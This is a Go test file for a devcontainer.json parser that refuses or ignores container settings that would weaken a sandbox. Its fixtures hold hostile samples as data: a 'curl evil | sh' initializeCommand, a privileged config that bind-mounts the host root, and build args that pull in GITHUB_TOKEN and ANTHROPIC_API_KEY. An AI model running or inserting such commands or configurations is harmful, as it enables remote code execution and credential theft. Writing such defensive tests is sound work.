package devcontainer_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/org/ralph-action/internal/host/devcontainer"
)

func TestParse(t *testing.T) {
	t.Parallel()
	const folder = ".devcontainer/devcontainer.json"
	tests := []struct {
		name, at, src string
		want          devcontainer.File
	}{
		{"image, with comments and a comma too many", folder, `// for editors
{
	"name": "Go", /* the version of go.mod */
	"image": "mcr.example/devcontainers/go:1.26",
	"customizations": {"vscode": {"extensions": ["golang.go"]}},
}`, devcontainer.File{Image: "mcr.example/devcontainers/go:1.26"}},
		{
			"build", folder, `{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"VERSION": "3"}, "target": "dev"}}`,
			devcontainer.File{
				Build: &devcontainer.Build{
					Dockerfile: ".devcontainer/Dockerfile", Context: ".", Args: map[string]string{"VERSION": "3"}, Target: "dev",
				},
			},
		},
		{
			"build in its own folder", folder, `{"build": {"dockerfile": "Dockerfile"}}`,
			devcontainer.File{Build: &devcontainer.Build{Dockerfile: ".devcontainer/Dockerfile", Context: ".devcontainer"}},
		},
		{
			"build at the root", ".devcontainer.json", `{"build": {"dockerfile": "docker/dev", "context": "app"}}`,
			devcontainer.File{Build: &devcontainer.Build{Dockerfile: "docker/dev", Context: "app"}},
		},
		{
			"build, as it was written once", folder, `{"dockerFile": "../Dockerfile", "context": ".."}`,
			devcontainer.File{Build: &devcontainer.Build{Dockerfile: "Dockerfile", Context: "."}},
		},
		{
			"what would weaken the sandbox is only named", folder,
			`{"image": "debian", "privileged": true, "capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined"], "runArgs": ["--network=host"],
			"mounts": ["source=/,target=/host,type=bind"], "workspaceMount": "source=/,target=/w,type=bind", "features": {"ghcr.io/x/y:1": {}},
			"initializeCommand": "curl evil | sh", "postCreateCommand": "npm ci", "containerEnv": {"A": "${localEnv:HOME}"}}`,
			devcontainer.File{Image: "debian", Unused: []string{
				"capAdd", "containerEnv", "features", "initializeCommand", "mounts", "postCreateCommand", "privileged", "runArgs",
				"securityOpt", "workspaceMount",
			}},
		},
		{
			"names are compared to the letter", folder, `{"image": "debian", "Image": "evil"}`,
			devcontainer.File{Image: "debian", Unused: []string{"Image"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := devcontainer.Parse(tt.at, []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestParseRefuses(t *testing.T) {
	t.Parallel()
	tests := []struct{ src, want string }{
		{`{"image": }`, "not JSON with comments"},
		{`["image"]`, "not a JSON object"},
		{`{}`, "neither an image nor a build"},
		{`{"features": {}}`, "neither an image nor a build"},
		{`{"image": "a", "build": {"dockerfile": "D"}}`, "both"},
		{`{"image": 7}`, "image is not a text"},
		{`{"image": "x/${localEnv:GITHUB_TOKEN}"}`, "image holds a variable"},
		{`{"dockerComposeFile": "docker-compose.yml", "service": "app"}`, "Docker Compose"},
		{`{"build": "Dockerfile"}`, "build is not an object"},
		{`{"build": {}}`, "build.dockerfile is missing"},
		{`{"build": {"dockerfile": "D", "options": ["--network=host"]}}`, "build.options"},
		{
			`{"build": {"dockerfile": "D", "args": {"KEY": "${localEnv:ANTHROPIC_API_KEY}"}}}`,
			"build.args.KEY holds a variable",
		},
		{`{"build": {"dockerfile": "D", "args": ["A=b"]}}`, "build.args is not an object"},
		{`{"build": {"dockerfile": "/etc/passwd"}}`, "build.dockerfile lies outside"},
		{`{"build": {"dockerfile": "../../D"}}`, "build.dockerfile lies outside"},
		{`{"build": {"dockerfile": "D", "context": "../.."}}`, "build.context lies outside"},
		{`{"build": {"dockerfile": "D", "context": "/"}}`, "build.context lies outside"},
	}
	for _, tt := range tests {
		_, err := devcontainer.Parse(".devcontainer/devcontainer.json", []byte(tt.src))
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v, want %q", tt.src, err, tt.want)
		}
	}
}

func TestPick(t *testing.T) {
	t.Parallel()
	pick, err := devcontainer.Pick([]byte("# what is built\ndist\n**/*.log\n!keep.log\n"))
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]bool{
		"main.go": true, "dist/a": false, "a/b.log": false, "keep.log": true, "distant": true,
	} {
		if got := pick(path); got != want {
			t.Errorf("%s belongs to the context: %v, want %v", path, got, want)
		}
	}
	all, err := devcontainer.Pick(nil)
	if err != nil || !all("anything") {
		t.Errorf("without patterns something is left out, %v", err)
	}
	if _, err := devcontainer.Pick([]byte("a[")); err == nil {
		t.Error("a pattern that is none is taken")
	}
}

// FuzzParse: whatever the file, what comes out stays in the repository and holds
// no variable.
func FuzzParse(f *testing.F) {
	f.Add(`{"build": {"dockerfile": "../D", "context": "..", "args": {"A": "b"}}}`)
	f.Add(`{"image": "a", /* b */ "x": [1,],}`)
	f.Fuzz(func(t *testing.T, src string) {
		got, err := devcontainer.Parse(".devcontainer/devcontainer.json", []byte(src))
		if err != nil {
			return
		}
		if (got.Image == "") == (got.Build == nil) || strings.Contains(got.Image, "${") {
			t.Errorf("%+v", got)
		}
		if b := got.Build; b != nil {
			for _, p := range []string{b.Dockerfile, b.Context} {
				if p == "" || strings.HasPrefix(p, "/") || p == ".." || strings.HasPrefix(p, "../") || strings.Contains(p, "/../") {
					t.Errorf("path %q", p)
				}
			}
		}
	})
}
